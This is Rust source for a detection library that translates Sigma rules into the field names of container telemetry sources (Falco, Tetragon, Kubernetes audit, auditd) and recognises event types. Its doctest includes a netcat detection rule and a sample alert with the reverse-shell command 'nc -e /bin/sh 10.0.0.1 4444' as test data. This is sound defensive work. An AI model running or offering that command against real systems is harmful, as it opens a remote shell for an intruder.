//! Processing pipelines: one rule, every container telemetry source.
//!
//! A pipeline is a YAML file in the spirit (and with the names) of pySigma's processing
//! pipelines. It does three things:
//!
//! 1. **Transforms rules** before the engine compiles them ([`Pipeline::apply`]): field name
//!    mapping (one-to-many too), prefixes and suffixes, logsource changes, added conditions,
//!    value rewriting, placeholders, failures. Mapping happens on the `adsigma-syntax` AST,
//!    so evaluating a mapped rule costs what evaluating a rule written in the event's own
//!    field names costs.
//! 2. **Recognises events** ([`Pipeline::recognize`]): declarative tests on an event (key
//!    present, key equal to a value, key matching a glob) say which logsource it has, so
//!    events route to the rules they can match without a `--logsource` flag. Tests run
//!    against the engine's [`Event`] trait, so they work on `serde_json::Value`, `JsonEvent`
//!    and user types.
//! 3. **Derives event fields** ([`Pipeline::derive`]): where a value has another shape in
//!    the source (Tetragon's `process.binary` plus `process.arguments` against Sigma's
//!    `CommandLine`), a derived field joins source fields, overlaid on the event by the
//!    [`Derived`] wrapper.
//!
//! ```
//! use adsigma_syntax::{parse_str, Document, FileId, Limits};
//! let rule_text = "title: t\nlogsource: {product: linux, category: process_creation}\n\
//!     detection:\n  sel: {Image|endswith: /nc, CommandLine|contains: ' -e '}\n  condition: sel\n";
//! let Document::Rule(rule) = parse_str(rule_text, FileId(0), &Limits::default())
//!     .documents.remove(0) else { unreachable!() };
//! let falco = adsigma_pipeline::by_name("falco").unwrap();
//! let mapped = falco.apply(&rule).unwrap();
//! let fields: Vec<_> = adsigma_pipeline::rule_fields(&mapped);
//! assert!(fields.contains(&"output_fields.proc.cmdline".to_owned()));
//! let alert = serde_json::json!({"source": "syscall", "output_fields": {
//!     "evt.type": "execve", "proc.cmdline": "nc -e /bin/sh 10.0.0.1 4444", "proc.exepath": "/usr/bin/nc"}});
//! let ls = falco.recognize(&alert).unwrap();
//! assert_eq!(ls.category.as_deref(), Some("process_creation"));
//! assert!(falco.is_relevant(&rule));
//! ```
//!
//! # The pipeline file
//!
//! ```yaml
//! name: tetragon                       # required
//! description: One line saying what it is for.
//! priority: 10                         # lower runs first when pipelines compose (default 0)
//! vars:                                # values for value_placeholders
//!   admins: [root, admin]
//! recognizers:                         # tried in order; the first whose tests all hold wins
//!   - logsource: {product: linux, category: process_creation}
//!     when:
//!       - {field: process_exec, exists: true}
//!       - {field: apiVersion, glob: "audit.k8s.io/*"}
//!       - {field: kind, equals: Event}           # a value or a list of values
//!       - {any: [{field: a, exists: true}, {not: {field: b, exists: true}}]}
//! derived_fields:                      # computed on recognised events (see Derived)
//!   - name: process_exec.process.command_line
//!     concat: [process_exec.process.binary, process_exec.process.arguments]
//!     separator: " "
//! transformations:                     # pySigma processing items, applied in order
//!   - id: process_fields
//!     type: field_name_mapping
//!     mapping:
//!       Image: process_exec.process.binary
//!       CommandLine: [a.cmdline, b.cmdline]    # one-to-many: an OR over the targets
//!     rule_conditions:
//!       - {type: logsource, product: linux, category: process_creation}
//!     rule_cond_op: and                        # or `or`; rule_cond_not: true negates
//! ```
//!
//! Transformations (`type:`) and their arguments are those of pySigma: see
//! [`Transformation`]. Conditions: `rule_conditions` (`logsource`, `tag`,
//! `contains_detection_item`, `rule_attribute`, `processing_item_applied`, `is_sigma_rule`),
//! `detection_item_conditions` (`match_string`, `is_null`) and `field_name_conditions`
//! (`include_fields`, `exclude_fields`), each a list linked by `*_cond_op` (`and`, `or`) or a
//! mapping of named conditions combined by `*_cond_expr`, negated by `*_cond_not`
//! (pySigma's newer `*_condition_linking` / `*_condition_expression` /
//! `*_condition_negation` are accepted too). Field name conditions restrict every
//! detection-item transformation (values too) to the fields they select.
//!
//! Rewritten values are typed by their item's modifiers as the rule parser types them
//! (`set_value: 10.0.0.0/8` on `ip|cidr` is a network, on `Image|re` a regex). A
//! transformation that would leave a rule the parser rejects is a `P205` error at the rule's
//! item: a value the modifiers reject (`set_value: false` on `a|re`), a renaming onto a field
//! and modifiers another item of the same map has (two equal keys), a field renamed to an
//! empty name. Renaming to a name with `|` (which would read as modifiers) is rejected when
//! the pipeline is parsed (`P103`).
//!
//! `value_placeholders` rewrites `%name%` placeholders of `expand` values into one value per
//! var value, except under the `all` modifier (where alternatives cannot be written as
//! values); for those, give the engine the values of [`PipelineSet::placeholders`].
//!
//! # Composition
//!
//! A [`PipelineSet`] holds pipelines sorted by priority (stable: equal priorities keep the
//! order given). Applying the set applies each pipeline in turn; recognising asks each
//! pipeline in turn.
//!
//! # Diagnostics
//!
//! Every problem is an [`adsigma_syntax::Diagnostic`] with a position in the pipeline file
//! (codes `P1xx`, see [`codes`]) or in the rule (`P2xx`). Untrusted pipeline files never
//! panic: YAML is read with the syntax crate's bounded loader, regexes have a size limit,
//! one-to-many distribution and value expansion are bounded ([`apply::MAX_ALTERNATIVES`],
//! [`apply::MAX_VALUES`]).

#![forbid(unsafe_code)]
#![deny(missing_docs)]

pub mod apply;
mod emit;
mod event;
pub mod model;
mod parse;

pub use adsigma_engine::derive::Derived;
pub use event::{RecognizerIndex, glob_with};
pub use model::*;

use adsigma_engine::{Event, LogSource};
use adsigma_syntax::{Diagnostic, FileId, Rule, Spanned};
use std::collections::HashMap;

/// The pipeline codes (`P`), one constant each, and [`codes::ALL`].
pub mod codes {

    adsigma_syntax::define_codes! {
        STRUCTURE = "P101", "invalid_pipeline", Error, "The pipeline is not a mapping with a `name`, or a section has the wrong shape.";
        UNKNOWN_TRANSFORMATION = "P102", "unknown_transformation", Error, "A transformation `type` is not one adsigma implements.";
        INVALID_ARGUMENT = "P103", "invalid_transformation_argument", Error, "A transformation argument is missing, of the wrong type or invalid.";
        UNKNOWN_CONDITION = "P104", "unknown_condition", Error, "A condition `type` is not one adsigma implements for that kind of condition.";
        INVALID_CONDITION = "P105", "invalid_condition", Error, "A condition, its operator or its expression is invalid.";
        MAPPING_CONFLICT = "P106", "mapping_conflict", Error, "Two field mappings under the same conditions map one field to different targets.";
        UNKNOWN_KEY = "P107", "unknown_pipeline_key", Error, "A key the pipeline format does not define.";
        INVALID_RECOGNIZER = "P108", "invalid_recognizer", Error, "A recognizer or one of its tests is invalid.";
        INVALID_DERIVED_FIELD = "P109", "invalid_derived_field", Error, "A derived field is invalid.";
        UNKNOWN_VARIABLE = "P110", "unknown_pipeline_variable", Error, "`value_placeholders` includes a name `vars` does not define.";
        RULE_FAILURE = "P201", "rule_failure", Error, "A pipeline's `rule_failure` says the rule cannot be used with it.";
        DETECTION_ITEM_FAILURE = "P202", "detection_item_failure", Error, "A pipeline's `detection_item_failure` says a detection item cannot be used with it.";
        UNMAPPED_FIELD = "P203", "unmapped_field", Warning, "A rule field that the pipeline does not map: events it recognises will not carry it.";
        EXPANSION_TOO_LARGE = "P204", "pipeline_expansion_too_large", Error, "One-to-many mappings or value expansion grow a rule beyond the limit.";
        INVALID_RESULT = "P205", "invalid_transformed_rule", Error, "A transformation produced an invalid rule (e.g. an identifier name already used).";
    }
}

impl Pipeline {
    /// Parses a pipeline from YAML. `source` names where it came from (a path, or
    /// `shipped:NAME`); diagnostics carry `file`.
    ///
    /// ```
    /// use adsigma_syntax::FileId;
    /// let p = adsigma_pipeline::Pipeline::parse("p.yml", FileId(0),
    ///     "name: p\ntransformations:\n  - type: field_name_prefix\n    prefix: 'event.'\n").unwrap();
    /// assert_eq!(p.name, "p");
    /// let errs = adsigma_pipeline::Pipeline::parse("p.yml", FileId(0),
    ///     "name: p\ntransformations:\n  - type: no_such\n").unwrap_err();
    /// assert_eq!(errs[0].code.code, "P102");
    /// assert_eq!((errs[0].span().start.line, errs[0].span().start.column), (3, 11));
    /// ```
    pub fn parse(source: &str, file: FileId, text: &str) -> Result<Pipeline, Vec<Diagnostic>> {
        parse::parse(source, file, text)
    }

    /// Canonical YAML: parsing it gives a pipeline equal to this one.
    pub fn to_yaml(&self) -> String {
        emit::to_yaml(self)
    }

    /// The rule with this pipeline's transformations applied (a transformed clone). Errors
    /// (`rule_failure`, `detection_item_failure`, expansion limits) carry the rule's id.
    pub fn apply(&self, rule: &Rule) -> Result<Rule, Vec<Diagnostic>> {
        let mut out = rule.clone();
        let mut track = apply::Tracking::default();
        apply::apply(self, &mut out, &mut track).map_err(|d| vec![with_rule(*d, rule)])?;
        Ok(out)
    }

    /// The logsource of `event` when one of the recognisers matches it (the first that does).
    pub fn recognize(&self, event: &dyn Event) -> Option<&LogSource> {
        self.recognizer_index(event)
            .map(|k| &self.recognizers[k].logsource)
    }

    /// Which recogniser (its index in `recognizers`) matches `event` first: the one
    /// [`Pipeline::recognize`] takes the logsource of.
    pub fn recognizer_index(&self, event: &dyn Event) -> Option<usize> {
        self.recognizers
            .iter()
            .position(|r| event::all(&r.when, event))
    }

    /// Every logsource the recognisers can give.
    pub fn logsources(&self) -> impl Iterator<Item = &LogSource> {
        self.recognizers.iter().map(|r| &r.logsource)
    }

    /// True when the rule can match events this pipeline recognises: its logsource (after
    /// the pipeline's `change_logsource`) fits a logsource a recogniser gives. A pipeline
    /// without recognisers is relevant to every rule. The facade compiles per pipeline only
    /// the relevant rules.
    pub fn is_relevant(&self, rule: &Rule) -> bool {
        if self.recognizers.is_empty() {
            return true;
        }
        // Only `change_logsource` changes the logsource: without one, no need to transform
        // the rule (a clone) to know it.
        let changes = self.transformations.iter().any(|t| {
            matches!(
                t.transformation,
                model::Transformation::ChangeLogsource { .. }
            )
        });
        let ls = match changes.then(|| self.apply(rule)) {
            Some(Ok(r)) => logsource_of(&r),
            _ => logsource_of(rule),
        };
        self.logsources().any(|l| adsigma_engine::fits(&ls, l))
    }

    /// The event with this pipeline's derived fields overlaid (no cost for pipelines without
    /// derived fields beyond one slice check per lookup).
    pub fn derive<E: Event>(&self, event: E) -> Derived<'_, E> {
        Derived::new(&self.derived_fields, event)
    }

    /// The fields of a relevant rule's detection items that no field-name transformation
    /// of this pipeline maps, each once, with where it is written. Empty when the pipeline
    /// renames no field of rules like this one (the rule is in the events' own field names)
    /// or the rule is not relevant ([`Pipeline::is_relevant`]).
    pub fn unmapped_fields(&self, rule: &Rule) -> Vec<Spanned<String>> {
        if !self.is_relevant(rule) {
            return Vec::new();
        }
        let mut copy = rule.clone();
        let mut track = apply::Tracking::default();
        if apply::apply(self, &mut copy, &mut track).is_err() || !track.renaming_applied {
            return Vec::new();
        }
        let mut out: Vec<Spanned<String>> = Vec::new();
        apply::for_each_item(rule, &mut |it| {
            if let Some(f) = &it.field {
                if !track.touched.contains(&it.key_span.start.offset)
                    && !out.iter().any(|o| o.value == f.value)
                {
                    out.push(f.clone());
                }
            }
        });
        out
    }

    /// [`Pipeline::unmapped_fields`] as `P203 unmapped_field` warnings, for `check`.
    pub fn check(&self, rule: &Rule) -> Vec<Diagnostic> {
        self.unmapped_fields(rule)
            .into_iter()
            .map(|f| {
                with_rule(
                    Diagnostic::new(
                        codes::UNMAPPED_FIELD,
                        f.span,
                        format!(
                            "pipeline `{}` does not map field `{}`: events it recognises will not carry it",
                            self.name, f.value
                        ),
                    )
                    .with_hint(format!(
                        "add `{}` to a field_name_mapping of the pipeline, or use a field the source has",
                        f.value
                    )),
                    rule,
                )
            })
            .collect()
    }

    /// The values of the `vars` that `value_placeholders` transformations handle, as the
    /// engine's placeholder map (`EngineConfig::placeholders`) wants them.
    pub fn placeholders(&self) -> HashMap<String, Vec<String>> {
        let mut out = HashMap::new();
        for item in &self.transformations {
            if let Transformation::ValuePlaceholders { include, exclude } = &item.transformation {
                for (name, values) in &self.vars {
                    let handled = include.as_ref().is_none_or(|i| i.contains(name))
                        && exclude.as_ref().is_none_or(|e| !e.contains(name));
                    if handled {
                        out.insert(name.clone(), values.iter().filter_map(Lit::text).collect());
                    }
                }
            }
        }
        out
    }
}

fn with_rule(mut d: Diagnostic, rule: &Rule) -> Diagnostic {
    d.rule_id = rule.meta.id.as_ref().map(|i| i.value.clone());
    d
}

/// A rule's logsource as the engine sees it.
pub fn logsource_of(rule: &Rule) -> LogSource {
    let t = |s: &Option<Spanned<String>>| s.as_ref().map(|x| x.value.clone());
    LogSource {
        product: t(&rule.logsource.product),
        category: t(&rule.logsource.category),
        service: t(&rule.logsource.service),
    }
}

/// The field names of a rule's detection items, in order, each once.
pub fn rule_fields(rule: &Rule) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    apply::for_each_item(rule, &mut |it| {
        if let Some(f) = &it.field {
            if !out.contains(&f.value) {
                out.push(f.value.clone());
            }
        }
    });
    out
}

/// Pipelines composed by priority (lower first; equal priorities keep the order given).
#[derive(Clone, Debug, Default, PartialEq)]
pub struct PipelineSet {
    pipelines: Vec<Pipeline>,
}

impl PipelineSet {
    /// A set of pipelines, sorted by priority.
    pub fn new(mut pipelines: Vec<Pipeline>) -> Self {
        pipelines.sort_by_key(|p| p.priority);
        PipelineSet { pipelines }
    }

    /// The pipelines in the order they apply.
    pub fn pipelines(&self) -> &[Pipeline] {
        &self.pipelines
    }

    /// True when the set holds no pipeline.
    pub fn is_empty(&self) -> bool {
        self.pipelines.is_empty()
    }

    /// Applies every pipeline in turn.
    pub fn apply(&self, rule: &Rule) -> Result<Rule, Vec<Diagnostic>> {
        let mut out = rule.clone();
        for p in &self.pipelines {
            let mut track = apply::Tracking::default();
            apply::apply(p, &mut out, &mut track).map_err(|d| vec![with_rule(*d, rule)])?;
        }
        Ok(out)
    }

    /// The first pipeline (in order) that recognises the event, and the logsource it gives.
    pub fn recognize(&self, event: &dyn Event) -> Option<(&Pipeline, &LogSource)> {
        self.pipelines
            .iter()
            .find_map(|p| p.recognize(event).map(|ls| (p, ls)))
    }

    /// Every pipeline's handled `vars`, for the engine's placeholder map (later pipelines
    /// win on a name both define).
    pub fn placeholders(&self) -> HashMap<String, Vec<String>> {
        let mut out = HashMap::new();
        for p in &self.pipelines {
            out.extend(p.placeholders());
        }
        out
    }
}

/// The shipped pipelines' sources: (name, YAML).
const SHIPPED: &[(&str, &str)] = &[
    (
        "k8s-audit",
        include_str!("../../../rules/pipelines/k8s-audit.yml"),
    ),
    (
        "docker-events",
        include_str!("../../../rules/pipelines/docker-events.yml"),
    ),
    (
        "tetragon",
        include_str!("../../../rules/pipelines/tetragon.yml"),
    ),
    ("falco", include_str!("../../../rules/pipelines/falco.yml")),
    ("ecs", include_str!("../../../rules/pipelines/ecs.yml")),
    (
        "sysmon-linux",
        include_str!("../../../rules/pipelines/sysmon-linux.yml"),
    ),
    (
        "auditd",
        include_str!("../../../rules/pipelines/auditd.yml"),
    ),
];

/// The names of the shipped pipelines, in the order [`shipped`] returns them.
pub fn shipped_names() -> impl Iterator<Item = &'static str> {
    SHIPPED.iter().map(|(n, _)| *n)
}

/// The YAML text of a shipped pipeline.
pub fn shipped_source(name: &str) -> Option<&'static str> {
    SHIPPED.iter().find(|(n, _)| *n == name).map(|(_, t)| *t)
}

/// The pipelines shipped in `rules/pipelines/`, embedded in the library (no file system
/// access). Each has a name and a one-line description.
///
/// ```
/// let names: Vec<String> = adsigma_pipeline::shipped().into_iter().map(|p| p.name).collect();
/// assert!(names.contains(&"falco".to_owned()));
/// ```
pub fn shipped() -> Vec<Pipeline> {
    SHIPPED
        .iter()
        .filter_map(|(name, text)| {
            Pipeline::parse(&format!("shipped:{name}"), FileId(u32::MAX), text).ok()
        })
        .collect()
}

/// A shipped pipeline by name.
pub fn by_name(name: &str) -> Option<Pipeline> {
    let text = shipped_source(name)?;
    Pipeline::parse(&format!("shipped:{name}"), FileId(u32::MAX), text).ok()
}
